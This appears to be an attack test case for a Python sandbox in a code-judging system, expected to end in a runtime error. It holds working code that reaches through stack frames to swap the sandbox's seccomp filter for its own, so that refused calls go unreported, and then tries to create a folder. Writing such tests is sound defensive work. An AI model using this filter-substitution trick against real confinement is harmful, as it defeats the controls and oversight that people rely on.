# attack: put a filter of its own in the place of the second one, so that refused calls are not reported
# expect: RE
# problem: echo

import ctypes
import os
import struct
import sys

INSTALL, REFUSED = {"x86_64": (317, 83), "aarch64": (277, 34)}[os.uname().machine]
INSTRUCTIONS = ((0x20, 0, 0, 0), (0x15, 0, 1, REFUSED), (0x06, 0, 0, 0x00050001), (0x06, 0, 0, 0x7FFF0000))
CODE = ctypes.create_string_buffer(b"".join(struct.pack("=HBBI", *one) for one in INSTRUCTIONS))


def header_of_the_second_filter():
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if type(value).__name__ == "Confinement":
                return value.filter._seal.header
        frame = frame.f_back


def echo(n):
    header = header_of_the_second_filter()
    header.raw = struct.pack("@HP", len(INSTRUCTIONS), ctypes.addressof(CODE))
    installed = ctypes.CDLL(None).syscall(INSTALL, 1, 4, ctypes.byref(header)) == 0
    try:
        os.mkdir("/tmp/escaped-folder")
    except OSError:
        return n if installed else None
    return n
